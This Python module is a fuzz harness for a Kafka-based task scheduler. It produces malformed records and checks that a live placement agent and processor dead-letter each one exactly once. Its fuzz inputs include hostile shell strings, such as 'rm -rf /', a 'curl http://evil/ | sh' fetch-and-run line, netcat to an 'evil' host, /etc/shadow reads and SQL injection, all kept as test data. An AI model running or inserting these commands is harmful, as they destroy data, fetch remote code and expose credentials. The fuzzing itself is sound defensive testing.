"""Hostile-input fuzz of the live system (``streamsched bench fuzz``).

A deterministic generator (seeded :class:`random.Random`; same seed, run id and time give
the same bytes) of malformed records for ``sched.tasks.submitted`` (most), ``sched.commands``
and ``sched.data.ingested``, interleaved with valid submissions; and :func:`run_fuzz`, which
produces them to a broker read by a real placement agent and a real stream processor
(``streamsched placement`` and ``streamsched processor`` subprocesses) and checks that
every malformed record is dead-lettered exactly once with a reason, every valid submission
is processed, and neither process dies.

Kinds and the CORRECT outcome of each (what the live run asserts):

======================  ============================================================  =========
kind                    what the record is                                            outcome
======================  ============================================================  =========
``not_json``            bytes that are not JSON (prose, XML, a shell line, empty)     dead
``truncated_json``      a valid submission cut short (any strict prefix of an         dead
                        object is invalid JSON)
``wrong_shape``         JSON that is not an object: list, number, string, null        dead
``deep_nesting``        100,000 nested ``[`` (the JSON parser recurses)               dead
``duplicate_key``       an object naming ``task_id`` twice                            dead
``wrong_type``          a field of the wrong JSON type (``"cpu_milli": "1000"``,      dead
                        ``"command": "ls -l"``, ``"preemptible": "yes"``, ...)
``missing_field``       a required field (envelope or payload) left out               dead
``extra_field``         an unknown field, at the top or inside ``resources``          dead
``unknown_type``        ``type`` not an event type (``task.submited``, ``""``, ...)   dead
``unknown_version``     ``schema_version`` 0, 2, 99, -1 or 10**30                     dead
``huge_payload``        64 KiB .. 900 KiB: a string over its field's limit (id,       dead
                        argv item, env value) or a huge unknown field
``oversize``            576 KiB .. 2 MiB, over the codec's 512 KiB limit. If the broker     dead or
                        or the producer refuses it, it never reaches a consumer:      refused
                        counted as ``refused_by_broker``, not as a miss
``shell_meta_id``       a shell line with whitespace/newline as an id (``t; rm -rf    dead
                        /``): identifiers match ``^\\S+$``
``shell_meta_label``    metacharacters where the charset is restricted: a             dead
                        governance key ``a;b``, an env name ``$(id)``, an argv item
                        with NUL, an empty argv item
``absurd_resources``    gpus 10**9, negative memory, cpu 10**12, NaN / Infinity       dead
                        tokens, an integer of 5,000 digits, gpu_milli 5000, ...
``non_utf8``            invalid UTF-8 bytes inside a string, Latin-1 text, UTF-16,    dead
                        a lone surrogate escape ``\\ud800``
``bad_command``         malformed ``sched.commands`` records (placement dead-letters) dead
``bad_data``            malformed ``sched.data.ingested`` records, and a valid        dead
                        submission on that topic (processor dead-letters)
``valid_plain``         a valid submission                                            accepted
``valid_shell_argv``    valid, with ``; rm -rf /``, ``$(reboot)``, backticks, ``|``,  accepted
                        newlines in argv items and env values: argv is never given
                        to a shell, so these are literal arguments
``valid_meta_id``       valid, with ``;``, ``$(...)``, backticks, ``|``, ``&`` in     accepted
                        ``task_type``/``task_id`` (no whitespace: the published
                        identifier rule accepts them; ids are data, never shell)
``valid_unicode``       valid, with non-ASCII ids and argv                            accepted
======================  ============================================================  =========

"Dead" means: on ``sched.deadletter`` exactly once, bytes unchanged, with non-empty
``error.field`` and ``error.reason`` headers and ``source.topic``/``source.partition``/
``source.offset`` naming the record. "Accepted" means: the placement agent placed it (a
``decision.audit`` on ``sched.decisions``) and the processor's status view knows it in a
state other than ``rejected``. Valid submissions need 1 milli-CPU and carry the
governance tag ``fuzz_run=<run id>`` that only the run's one fake node (kept alive by
heartbeats from the run) carries, so they are placed at once and never run anywhere.
"""

from __future__ import annotations

import hashlib
import json
import os
import random
import tempfile
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Final

from confluent_kafka import (
    OFFSET_BEGINNING,
    Consumer,
    KafkaError,
    Message,
    Producer,
    TopicPartition,
)
from confluent_kafka.admin import AdminClient

from streamsched.broker import EmbeddedBroker, client_config, ensure_topics, free_port
from streamsched.schemas import codec
from streamsched.schemas.commands import CancelTask
from streamsched.schemas.data import DataIngested
from streamsched.schemas.decisions import DecisionAudit
from streamsched.schemas.nodes import NodeHeartbeat
from streamsched.schemas.tasks import TaskResources, TaskSubmitted
from streamsched.schemas.topics import (
    COMMANDS,
    CORE_TOPIC_PARTITIONS,
    DATA_INGESTED,
    DEAD_LETTER,
    DECISIONS,
    NODE_HEARTBEATS,
    TASKS_SUBMITTED,
)
from streamsched.settings import kafka_settings
from streamsched.up.processes import Child, stop_all, streamsched_argv

#: Malformed kinds and their relative weights (a share of every generated batch).
MALFORMED_KINDS: Final[dict[str, int]] = {
    "not_json": 6,
    "truncated_json": 8,
    "wrong_shape": 5,
    "deep_nesting": 1,
    "duplicate_key": 3,
    "wrong_type": 10,
    "missing_field": 8,
    "extra_field": 6,
    "unknown_type": 5,
    "unknown_version": 5,
    "huge_payload": 1,
    "oversize": 1,
    "shell_meta_id": 8,
    "shell_meta_label": 6,
    "absurd_resources": 10,
    "non_utf8": 6,
    "bad_command": 6,
    "bad_data": 6,
}
#: Valid kinds (drawn with equal weight).
VALID_KINDS: Final[tuple[str, ...]] = (
    "valid_plain",
    "valid_shell_argv",
    "valid_meta_id",
    "valid_unicode",
)
#: The codec's payload limit; ``oversize`` records exceed it.
PAYLOAD_LIMIT = codec.DEFAULT_MAX_BYTES
#: The largest record the run's producer will send (oversize records stay below it).
PRODUCER_MAX_BYTES = 3 * 1024 * 1024
#: The run's fake node heartbeats this often (the agent loses a node after 15 s).
HEARTBEAT_EVERY_S = 2.0
#: Hardware class of the fake node.
HARDWARE = "cpu"

_SHELL_LINES: Final = (
    "; rm -rf /",
    "$(reboot)",
    "`id`",
    "a | nc evil 1",
    "x && curl http://evil/ | sh",
    "line1\nline2",
    "> /etc/passwd",
    "'; DROP TABLE tasks; --",
    "${IFS}cat${IFS}/etc/shadow",
)
_META_TOKENS: Final = (";rm", "$(id)", "`id`", "|nc", "&&x", ">out", "*", "'q'", '"d"', "\\")


@dataclass(frozen=True, slots=True)
class FuzzRecord:
    """One record to produce. ``valid`` records must be accepted (``task_id`` names them);
    the others must be dead-lettered."""

    kind: str
    topic: str
    key: bytes | None
    value: bytes
    valid: bool
    task_id: str | None = None


class FuzzGenerator:
    """Deterministic generator of fuzz records for one run.

    ``run_id`` goes into every id and the governance tag (so runs on a shared cluster do
    not see each other's tasks); ``now`` stamps ``occurred_at`` (no clock is read).
    """

    def __init__(self, seed: int, run_id: str, now: datetime) -> None:
        if now.tzinfo is None:
            raise ValueError("now must be an aware datetime")
        self.rng = random.Random(seed)
        self.run_id = run_id
        self.now = now
        self._serial = 0

    # ------------------------------------------------------------------ valid

    def _next(self, prefix: str) -> str:
        self._serial += 1
        return f"{prefix}-{self.run_id}-{self._serial}"

    def submission(self, task_id: str | None = None, **changes: Any) -> TaskSubmitted:
        """A valid submission of the run (1 milli-CPU, tagged ``fuzz_run``)."""
        task_id = task_id or self._next("fuzz")
        base: dict[str, Any] = {
            "task_id": task_id,
            "idempotency_key": f"k-{task_id}",
            "tenant": f"fuzz-{self.run_id}",
            "task_type": "fuzz-echo",
            "source": "fuzz",
            "event_id": hashlib.sha1(task_id.encode()).hexdigest(),
            "occurred_at": self.now,
            "resources": TaskResources(cpu_milli=1, memory_mib=0),
            "governance": {"fuzz_run": self.run_id},
            "command": ("echo", "fuzz"),
        }
        return TaskSubmitted(**{**base, **changes})

    def valid(self, kind: str | None = None) -> FuzzRecord:
        """One valid submission of ``kind`` (default: drawn at random)."""
        kind = kind or self.rng.choice(VALID_KINDS)
        rng = self.rng
        if kind == "valid_plain":
            event = self.submission()
        elif kind == "valid_shell_argv":
            lines = rng.sample(_SHELL_LINES, 3)
            event = self.submission(
                command=("echo", *lines), env={"FUZZ_ARG": rng.choice(_SHELL_LINES)}
            )
        elif kind == "valid_meta_id":
            token = rng.choice(_META_TOKENS)
            event = self.submission(
                task_id=self._next("fuzz") + token, task_type=f"t{rng.choice(_META_TOKENS)}"
            )
        elif kind == "valid_unicode":
            event = self.submission(
                task_id=self._next("tâche✓"), command=("echo", "héllo wörld ✓ 日本")
            )
        else:
            raise ValueError(f"unknown valid kind {kind!r} (known: {', '.join(VALID_KINDS)})")
        key = event.task_id.encode("utf-8")
        return FuzzRecord(kind, TASKS_SUBMITTED, key, codec.encode(event), True, event.task_id)

    # ------------------------------------------------------------------ malformed

    def malformed(
        self, kind: str | None = None, exclude: frozenset[str] = frozenset()
    ) -> FuzzRecord:
        """One malformed record of ``kind`` (default: drawn by :data:`MALFORMED_KINDS`,
        leaving out the kinds in ``exclude``)."""
        if kind is None:
            kinds = [k for k in MALFORMED_KINDS if k not in exclude]
            kind = self.rng.choices(kinds, [MALFORMED_KINDS[k] for k in kinds])[0]
        maker = getattr(self, f"_m_{kind}", None)
        if maker is None:
            raise ValueError(f"unknown malformed kind {kind!r}")
        topic, value = maker()
        key = self.rng.choice((None, b"", self._next("key").encode(), b"\xff\xfe\x00"))
        return FuzzRecord(kind, topic, key, value, False)

    def _dict(self) -> dict[str, Any]:
        """A valid submission as a JSON-ready dict."""
        data: dict[str, Any] = json.loads(codec.encode(self.submission()))
        return data

    def _json(self, data: Any) -> tuple[str, bytes]:
        return TASKS_SUBMITTED, json.dumps(data, ensure_ascii=False).encode("utf-8")

    def _m_not_json(self) -> tuple[str, bytes]:
        choices = (b"not json", b"", b"<task id='x'/>", b"; rm -rf /", b"{'a': 1}", b"{,}")
        return TASKS_SUBMITTED, self.rng.choice(choices)

    def _m_truncated_json(self) -> tuple[str, bytes]:
        raw = codec.encode(self.submission())
        return TASKS_SUBMITTED, raw[: self.rng.randrange(1, len(raw))]

    def _m_wrong_shape(self) -> tuple[str, bytes]:
        return self._json(self.rng.choice(([self._dict()], 42, "task", None, True, [])))

    def _m_deep_nesting(self) -> tuple[str, bytes]:
        depth = 100_000
        return TASKS_SUBMITTED, b"[" * depth + b"]" * depth

    def _m_duplicate_key(self) -> tuple[str, bytes]:
        raw = codec.encode(self.submission())
        return TASKS_SUBMITTED, raw[:-1] + b',"task_id":"other"}'

    def _m_wrong_type(self) -> tuple[str, bytes]:
        data = self._dict()
        path, value = self.rng.choice(
            (
                (("task_id",), 123),
                (("resources", "cpu_milli"), "1000"),
                (("resources",), [1, 2]),
                (("preemptible",), "yes"),
                (("command",), "ls -l"),
                (("governance",), ["fuzz_run"]),
                (("max_retries",), 1.5),
                (("schema_version",), "1"),
                (("occurred_at",), "yesterday"),
                (("env",), {"A": 1}),
                (("priority",), "urgent"),
                (("depends_on",), "t1"),
            )
        )
        _set(data, path, value)
        return self._json(data)

    def _m_missing_field(self) -> tuple[str, bytes]:
        data = self._dict()
        name = self.rng.choice(
            (
                *("task_id", "idempotency_key", "tenant", "task_type", "occurred_at"),
                *("source", "event_id", "schema_version", "type"),
            )
        )
        del data[name]
        return self._json(data)

    def _m_extra_field(self) -> tuple[str, bytes]:
        data = self._dict()
        if self.rng.random() < 0.5:
            data[self.rng.choice(("bogus", "shell", "__proto__", "priority_boost"))] = 1
        else:
            data["resources"]["root"] = True
        return self._json(data)

    def _m_unknown_type(self) -> tuple[str, bytes]:
        data = self._dict()
        data["type"] = self.rng.choice(("task.submited", "", "TASK.SUBMITTED", "exec.shell", 7))
        return self._json(data)

    def _m_unknown_version(self) -> tuple[str, bytes]:
        data = self._dict()
        data["schema_version"] = self.rng.choice((0, 2, 99, -1, 10**30))
        return self._json(data)

    def _m_huge_payload(self) -> tuple[str, bytes]:
        size = self.rng.randrange(64 * 1024, 900 * 1024)
        blob = "A" * size
        data = self._dict()
        path = self.rng.choice(
            (("task_type",), ("command",), ("env", "BIG"), ("padding",), ("tenant",))
        )
        _set(data, path, ["echo", blob] if path == ("command",) else blob)
        return self._json(data)

    def _m_oversize(self) -> tuple[str, bytes]:
        size = self.rng.randrange(PAYLOAD_LIMIT + 64 * 1024, 2 * 1024 * 1024)
        data = self._dict()
        data["padding"] = "B" * size
        return self._json(data)

    def _m_shell_meta_id(self) -> tuple[str, bytes]:
        data = self._dict()
        name = self.rng.choice(("task_id", "tenant", "task_type", "idempotency_key", "source"))
        data[name] = self.rng.choice(
            ("t; rm -rf /", "$(reboot)\n", "a | b", "`id` x", "x\ty", "t\n; shutdown")
        )
        return self._json(data)

    def _m_shell_meta_label(self) -> tuple[str, bytes]:
        data = self._dict()
        path, value = self.rng.choice(
            (
                (("governance", "a;b"), "x"),
                (("governance", "$(id)"), "x"),
                (("governance", "k\n"), "x"),
                (("env", "$(id)"), "x"),
                (("env", "A B"), "x"),
                (("env", "OK"), "x\x00y"),
                (("command",), ["echo", "a\x00b"]),
                (("command",), ["echo", ""]),
            )
        )
        _set(data, path, value)
        return self._json(data)

    def _m_absurd_resources(self) -> tuple[str, bytes]:
        data = self._dict()
        choice = self.rng.randrange(10)
        if choice < 5:
            name, value = (
                ("gpus", 10**9),
                ("memory_mib", -1),
                ("cpu_milli", 10**12),
                ("gpu_milli", 5000),
                ("cpu_milli", -5),
            )[choice]
            data["resources"][name] = value
            return self._json(data)
        if choice == 5:
            data["max_retries"] = 10**6
            return self._json(data)
        token = ("NaN", "Infinity", "-Infinity", "1" + "0" * 5000)[choice - 6]
        raw = codec.encode(self.submission())
        field_name = self.rng.choice((b'"cost_tolerance":', b'"declared_work":{"runtime_s":'))
        close = b"}" if b"declared_work" in field_name else b""
        return TASKS_SUBMITTED, raw[:-1] + b"," + field_name + token.encode() + close + b"}"

    def _m_non_utf8(self) -> tuple[str, bytes]:
        raw = codec.encode(self.submission())
        choice = self.rng.randrange(4)
        if choice == 0:  # an invalid byte inside the task id
            return TASKS_SUBMITTED, raw.replace(b'"task_id":"', b'"task_id":"\xff\xfe', 1)
        if choice == 1:  # Latin-1 text
            data = self._dict()
            data["task_type"] = "caf\u00e9"
            return TASKS_SUBMITTED, json.dumps(data, ensure_ascii=False).encode("latin-1")
        if choice == 2:
            return TASKS_SUBMITTED, raw.decode("utf-8").encode("utf-16")
        return TASKS_SUBMITTED, raw.replace(b'"task_id":"', b'"task_id":"\\ud800', 1)

    def _m_bad_command(self) -> tuple[str, bytes]:
        cancel = CancelTask(
            task_id=self._next("fuzz"),
            reason="fuzz",
            requested_by="fuzz",
            source="fuzz",
            occurred_at=self.now,
            event_id=self._next("c"),
        )
        data = json.loads(codec.encode(cancel))
        choice = self.rng.randrange(4)
        if choice == 0:
            return COMMANDS, b"cancel everything; rm -rf /"
        if choice == 1:
            data["task_id"] = ["x"]
        elif choice == 2:
            data["type"] = "command.exec"
        else:
            del data["task_id"]
        return COMMANDS, json.dumps(data).encode()

    def _m_bad_data(self) -> tuple[str, bytes]:
        ingest = DataIngested(
            dataset=self._next("ds"),
            rows=1,
            bytes=1,
            location="s3://bucket/x",
            source="fuzz",
            occurred_at=self.now,
            event_id=self._next("e"),
        )
        data = json.loads(codec.encode(ingest))
        choice = self.rng.randrange(5)
        if choice == 0:
            return DATA_INGESTED, b"\x00\x01\x02"
        if choice == 1:
            data["rows"] = -1
        elif choice == 2:
            data["location"] = "$(curl evil)"
        elif choice == 3:
            data["dataset"] = "ds; rm -rf /"
        else:  # a valid event of the wrong type for this topic
            return DATA_INGESTED, codec.encode(self.submission())
        return DATA_INGESTED, json.dumps(data).encode()

    # ------------------------------------------------------------------ a run's records

    def records(
        self, malformed: int, valid: int, exclude: frozenset[str] = frozenset()
    ) -> list[FuzzRecord]:
        """``malformed`` + ``valid`` records, valid ones spread at random positions among
        the malformed ones (every kind not in ``exclude`` appears at least once when there
        is room)."""
        unknown = exclude - set(MALFORMED_KINDS)
        if unknown:
            raise ValueError(f"unknown malformed kind(s) {sorted(unknown)}")
        kinds = [k for k in MALFORMED_KINDS if k not in exclude]
        bad = [self.malformed(k) for k in kinds[:malformed]]
        bad += [self.malformed(exclude=exclude) for _ in range(malformed - len(bad))]
        good = [self.valid(k) for k in VALID_KINDS[:valid]]
        good += [self.valid() for _ in range(valid - len(good))]
        out = bad + good
        self.rng.shuffle(out)
        return out


def _set(data: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    target = data
    for part in path[:-1]:
        target = target.setdefault(part, {})
    target[path[-1]] = value


# ============================================================================ live run
@dataclass(slots=True)
class FuzzResult:
    """The figures of one live run (see the module docstring for what each count means)."""

    malformed: int = 0
    refused_by_broker: int = 0
    dead_lettered: int = 0
    dead_lettered_with_reason: int = 0
    dead_lettered_twice: int = 0
    dead_letter_bytes_changed: int = 0
    valid: int = 0
    valid_audited: int = 0
    valid_in_status_view: int = 0
    valid_processed: int = 0
    valid_dead_lettered: int = 0
    crashes: int = 0
    wall_s: float = 0.0
    produce_s: float = 0.0
    settle_s: float = 0.0
    peak_rss_mib: dict[str, float] = field(default_factory=dict)
    exit_codes: dict[str, int | None] = field(default_factory=dict)
    by_kind: dict[str, dict[str, int]] = field(default_factory=dict)
    missing: list[str] = field(default_factory=list)
    #: The log tail of each process that died during the run.
    crash_logs: dict[str, str] = field(default_factory=dict)
    broker: str = ""

    @property
    def ok(self) -> bool:
        """Every invariant of the fuzz bar holds."""
        expected = self.malformed - self.refused_by_broker
        return (
            self.crashes == 0
            and self.dead_lettered == expected
            and self.dead_lettered_with_reason == expected
            and self.dead_lettered_twice == 0
            and self.dead_letter_bytes_changed == 0
            and self.valid_processed == self.valid
            and self.valid_dead_lettered == 0
        )

    def to_dict(self) -> dict[str, Any]:
        out = {name: getattr(self, name) for name in self.__slots__}
        out["ok"] = self.ok
        out["missing"] = self.missing[:50]
        return out


@dataclass(slots=True)
class _Sent:
    kind: str
    valid: bool
    digest: bytes
    task_id: str | None
    #: SHA-256 (hex) of the value: what a truncated dead-letter copy names it by.
    sha256: str = ""


def _digest(value: bytes) -> bytes:
    return hashlib.blake2b(value, digest_size=16).digest()


@contextmanager
def _servers(bootstrap: str | None) -> Iterator[tuple[str, str, int | None]]:
    """(bootstrap servers, broker description, broker pid): ``bootstrap``, else
    ``KAFKA_BOOTSTRAP_SERVERS``, else an embedded broker for the duration."""
    configured = bootstrap or kafka_settings().bootstrap_servers
    if configured:
        yield configured, "external", None
        return
    with EmbeddedBroker() as broker:
        yield broker.bootstrap_servers, "embedded Tansu", broker.pid


def peak_rss_mib(pid: int | None) -> float:
    """Peak resident set size (VmHWM) of ``pid`` in MiB; nan when unknown."""
    return proc_status_mib(pid, "VmHWM")


def proc_status_mib(pid: int | None, field: str) -> float:
    """A memory field of ``/proc/PID/status`` (``VmHWM``: peak RSS, ``VmRSS``: current)
    in MiB; nan when unknown."""
    if pid is None:
        return float("nan")
    try:
        text = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return float("nan")
    for line in text.splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1]) / 1024.0
    return float("nan")


class FuzzError(RuntimeError):
    """The run could not be carried out (a process did not start); the message says why."""


def run_fuzz(
    malformed: int = 10_000,
    valid: int = 1_000,
    seed: int = 0,
    *,
    bootstrap: str | None = None,
    settle_timeout_s: float = 180.0,
    exclude: frozenset[str] = frozenset(),
    on_stage: Callable[[str], None] = lambda _: None,
) -> FuzzResult:
    """Run the fuzz against live processes and return its figures (never raises for a
    failed invariant: read :attr:`FuzzResult.ok`). Raises :class:`FuzzError` when the
    processes cannot be started."""
    run_id = f"{seed}x{os.getpid()}x{int(time.time())}"
    gen = FuzzGenerator(seed, run_id, datetime.now(UTC))
    records = gen.records(malformed, valid, exclude)
    t_start = time.monotonic()
    with _servers(bootstrap) as (servers, broker_kind, broker_pid):
        config = client_config(servers, kafka_settings())
        ensure_topics(config, CORE_TOPIC_PARTITIONS)
        with tempfile.TemporaryDirectory(prefix="streamsched-fuzz-") as tmp:
            result = _run(config, servers, gen, records, Path(tmp), settle_timeout_s, on_stage)
        result.peak_rss_mib["broker"] = peak_rss_mib(broker_pid)
    result.broker = broker_kind
    result.wall_s = time.monotonic() - t_start
    return result


def _run(
    config: dict[str, Any],
    servers: str,
    gen: FuzzGenerator,
    records: list[FuzzRecord],
    run_dir: Path,
    settle_timeout_s: float,
    on_stage: Callable[[str], None],
) -> FuzzResult:
    env = {"KAFKA_BOOTSTRAP_SERVERS": servers}
    web_port = free_port()
    on_stage("starting the placement agent and the processor")
    children = [
        Child("placement", streamsched_argv("placement", "--no-warm-start"), run_dir, env),
        Child(
            "processor",
            streamsched_argv(
                "processor",
                "--web-port",
                str(web_port),
                "--app-id",
                f"fuzz-{gen.run_id}",
                "--no-restore",
                "--loglevel",
                "warning",
            ),
            run_dir,
            env,
        ),
    ]
    result = FuzzResult()
    try:
        _wait_for_view(web_port, children)
        node = _Node(config, gen)
        node.beat()
        on_stage(f"producing {len(records)} records")
        t0 = time.monotonic()
        sent, refused = _produce_all(config, records, node)
        result.produce_s = time.monotonic() - t0
        on_stage("waiting for dead letters and decisions")
        t1 = time.monotonic()
        dead, audited = _settle(config, sent, children, node, settle_timeout_s)
        result.settle_s = time.monotonic() - t1
        valid_ids = [s.task_id for s in sent.values() if s.task_id is not None]
        in_view = _status_view(web_port, valid_ids, settle_timeout_s)
        for child in children:
            result.peak_rss_mib[child.name] = peak_rss_mib(child.process.pid)
        result.crashes = sum(1 for c in children if not c.alive)
        result.crash_logs = {c.name: c.log_tail(4000) for c in children if not c.alive}
        node.close()
    finally:
        result.exit_codes = stop_all(children, grace_s=15.0)
    _tally(result, records, sent, refused, dead, audited, in_view)
    return result


def _wait_for_view(port: int, children: list[Child], timeout_s: float = 120.0) -> None:
    deadline = time.monotonic() + timeout_s
    url = f"http://127.0.0.1:{port}/summary"
    while time.monotonic() < deadline:
        for child in children:
            if not child.alive:
                raise FuzzError(f"{child.name} exited at start: {child.log_tail()}")
        try:
            with urllib.request.urlopen(url, timeout=2):
                return
        except (urllib.error.URLError, OSError):
            time.sleep(0.3)
    raise FuzzError(f"the processor's status view did not answer on {url} in {timeout_s:g} s")


class _Node:
    """The run's one fake node: heartbeats with the label ``fuzz_run=<run id>``."""

    def __init__(self, config: dict[str, Any], gen: FuzzGenerator) -> None:
        self.producer = Producer({**config, "linger.ms": 0})
        self.node_id = f"fuzz-node-{gen.run_id}"
        self.run_id = gen.run_id
        self.sequence = 0
        self.last = 0.0

    def beat(self, force: bool = True) -> None:
        if not force and time.monotonic() - self.last < HEARTBEAT_EVERY_S:
            return
        capacity = {"cpu_milli": 10_000_000, "memory_mib": 1024, "gpus": 0}
        hb = NodeHeartbeat(
            occurred_at=datetime.now(UTC),
            source="fuzz",
            node_id=self.node_id,
            hardware=HARDWARE,
            capacity=capacity,
            usage={"cpu_milli": 0, "memory_mib": 0, "gpus": 0},
            labels={"fuzz_run": self.run_id},
            sequence=self.sequence,
        )
        self.sequence += 1
        self.last = time.monotonic()
        self.producer.produce(NODE_HEARTBEATS, codec.encode(hb), key=self.node_id.encode())
        self.producer.poll(0)

    def close(self) -> None:
        self.producer.flush(10)


def _produce_all(
    config: dict[str, Any], records: list[FuzzRecord], node: _Node
) -> tuple[dict[tuple[str, int, int], _Sent], Counter[str]]:
    """Produce ``records`` in order; the source position of each delivered one, and the
    kinds of those the producer or broker refused."""
    producer = Producer(
        {
            **config,
            "linger.ms": 5,
            "acks": "all",
            "message.max.bytes": PRODUCER_MAX_BYTES,
            "enable.idempotence": False,
        }
    )
    sent: dict[tuple[str, int, int], _Sent] = {}
    refused: Counter[str] = Counter()
    lock = threading.Lock()

    def report(rec: FuzzRecord) -> Callable[[KafkaError | None, Message], None]:
        def delivered(error: KafkaError | None, msg: Message) -> None:
            with lock:
                if error is not None:
                    refused[rec.kind] += 1
                    return
                where = (msg.topic() or "", msg.partition() or 0, msg.offset() or 0)
                sent[where] = _Sent(
                    rec.kind,
                    rec.valid,
                    _digest(rec.value),
                    rec.task_id,
                    hashlib.sha256(rec.value).hexdigest(),
                )

        return delivered

    for rec in records:
        node.beat(force=False)
        for _ in range(100):
            try:
                producer.produce(rec.topic, rec.value, key=rec.key, on_delivery=report(rec))
                break
            except BufferError:
                producer.poll(0.1)
            except Exception:  # refused at produce time (e.g. over message.max.bytes)
                refused[rec.kind] += 1
                break
        producer.poll(0)
    producer.flush(60)
    return sent, refused


def _consumer(config: dict[str, Any], topic: str) -> Consumer:
    consumer = Consumer(
        {
            **config,
            "group.id": f"fuzz-reader-{os.getpid()}-{time.monotonic_ns()}",
            "enable.auto.commit": False,
            "fetch.max.bytes": PRODUCER_MAX_BYTES * 2,
            "max.partition.fetch.bytes": PRODUCER_MAX_BYTES * 2,
        }
    )
    meta = AdminClient(config).list_topics(topic, timeout=15).topics[topic]
    consumer.assign([TopicPartition(topic, p, OFFSET_BEGINNING) for p in meta.partitions])
    return consumer


@dataclass(slots=True)
class _DeadLetter:
    copies: int = 0
    with_reason: int = 0
    same_bytes: bool = True


def _settle(
    config: dict[str, Any],
    sent: dict[tuple[str, int, int], _Sent],
    children: list[Child],
    node: _Node,
    timeout_s: float,
) -> tuple[dict[tuple[str, int, int], _DeadLetter], set[str]]:
    """Read the dead-letter and decision topics until every delivered malformed record has
    a dead letter and every valid one an audit (or ``timeout_s``, or a process died); then
    read 2 s more so that duplicates show."""
    dead: dict[tuple[str, int, int], _DeadLetter] = {}
    audited: set[str] = set()
    want_dead = sum(1 for s in sent.values() if not s.valid)
    valid_ids: set[str] = {s.task_id for s in sent.values() if s.task_id is not None}
    dl, decisions = _consumer(config, DEAD_LETTER), _consumer(config, DECISIONS)
    try:
        deadline = time.monotonic() + timeout_s
        extra_until: float | None = None
        while time.monotonic() < (extra_until or deadline):
            node.beat(force=False)
            for msg in dl.consume(500, timeout=0.2):
                _on_dead_letter(msg, sent, dead)
            for msg in decisions.consume(500, timeout=0.05):
                _on_decision(msg, valid_ids, audited)
            done = len(dead) >= want_dead and audited >= valid_ids
            if extra_until is None and (done or any(not c.alive for c in children)):
                extra_until = time.monotonic() + 2.0
    finally:
        dl.close()
        decisions.close()
    return dead, audited


def _on_dead_letter(
    msg: Message,
    sent: dict[tuple[str, int, int], _Sent],
    dead: dict[tuple[str, int, int], _DeadLetter],
) -> None:
    if msg.error() is not None:
        return
    raw_headers = msg.headers() or []
    pairs = raw_headers.items() if isinstance(raw_headers, dict) else raw_headers
    headers = {k: _text(v) for k, v in pairs}
    try:
        where = (
            headers.get("source.topic", ""),
            int(headers.get("source.partition", "-1")),
            int(headers.get("source.offset", "-1")),
        )
    except ValueError:
        return
    source = sent.get(where)
    if source is None:
        return  # not one of this run's records
    entry = dead.setdefault(where, _DeadLetter())
    entry.copies += 1
    if headers.get("error.field") and headers.get("error.reason"):
        entry.with_reason += 1
    if headers.get("error.truncated") == "true":
        # Too large to copy whole (schemas/deadletter.py): a prefix, named by its hash.
        if headers.get("error.original_sha256") != source.sha256:
            entry.same_bytes = False
    elif _digest(msg.value() or b"") != source.digest:
        entry.same_bytes = False


def _text(value: str | bytes | None) -> str:
    if isinstance(value, bytes):
        return value.decode("utf-8", "replace")
    return value or ""


def _on_decision(msg: Message, valid_ids: set[str], audited: set[str]) -> None:
    if msg.error() is not None:
        return
    headers = dict(msg.headers() or [])
    if headers.get("type") != b"decision.audit":
        return
    try:
        event = codec.decode_as(DecisionAudit, msg.value() or b"")
    except ValueError:
        return
    if event.kind == "assign" and event.task_id in valid_ids:
        audited.add(event.task_id)


def _status_view(port: int, task_ids: list[str], timeout_s: float = 60.0) -> set[str]:
    """The ids the processor's status view knows in a state other than ``rejected``. The
    processor may run behind the placement agent (whose audits ``_settle`` waited for), so
    the view is asked again, for the ids it did not know yet, until it knows them all or
    ``timeout_s`` passes."""
    wanted = set(task_ids)
    known: set[str] = set()
    deadline = time.monotonic() + timeout_s
    while True:
        known |= _known_in_view(port, sorted(wanted - known))
        if known == wanted or time.monotonic() >= deadline:
            return known
        time.sleep(0.5)


def _known_in_view(port: int, task_ids: list[str]) -> set[str]:
    """One pass over ``task_ids``: those the view knows in a state other than ``rejected``."""
    known: set[str] = set()
    for task_id in task_ids:
        url = f"http://127.0.0.1:{port}/tasks/{urllib.parse.quote(task_id, safe='')}"
        try:
            with urllib.request.urlopen(url, timeout=10) as response:
                state = json.loads(response.read()).get("state")
        except (urllib.error.URLError, OSError, ValueError):
            continue
        if state not in (None, "rejected"):
            known.add(task_id)
    return known


def _tally(
    result: FuzzResult,
    records: list[FuzzRecord],
    sent: dict[tuple[str, int, int], _Sent],
    refused: Counter[str],
    dead: dict[tuple[str, int, int], _DeadLetter],
    audited: set[str],
    in_view: set[str],
) -> None:
    by_kind: dict[str, dict[str, int]] = {}
    for rec in records:
        by_kind.setdefault(rec.kind, Counter())["generated"] += 1
    for kind, count in refused.items():
        by_kind[kind]["refused_by_broker"] += count
    result.malformed = sum(1 for r in records if not r.valid)
    result.valid = sum(1 for r in records if r.valid)
    result.refused_by_broker = sum(c for k, c in refused.items() if not k.startswith("valid"))
    for where, source in sent.items():
        entry = dead.get(where)
        counts = by_kind[source.kind]
        if source.valid:
            if entry is not None:
                result.valid_dead_lettered += 1
                result.missing.append(f"valid {source.task_id!r} dead-lettered at {where}")
            ok_audit = source.task_id in audited
            ok_view = source.task_id in in_view
            result.valid_audited += ok_audit
            result.valid_in_status_view += ok_view
            result.valid_processed += ok_audit and ok_view
            counts["processed"] += ok_audit and ok_view
            if not (ok_audit and ok_view):
                result.missing.append(
                    f"valid {source.task_id!r} at {where}: audit {ok_audit}, view {ok_view}"
                )
            continue
        if entry is None:
            result.missing.append(f"{source.kind} at {where}: no dead letter")
            continue
        counts["dead_lettered"] += 1
        result.dead_lettered += 1
        result.dead_lettered_with_reason += entry.with_reason >= 1
        result.dead_lettered_twice += entry.copies > 1
        result.dead_letter_bytes_changed += not entry.same_bytes
    result.by_kind = {k: dict(v) for k, v in sorted(by_kind.items())}


__all__ = [
    "MALFORMED_KINDS",
    "VALID_KINDS",
    "FuzzError",
    "FuzzGenerator",
    "FuzzRecord",
    "FuzzResult",
    "peak_rss_mib",
    "run_fuzz",
]
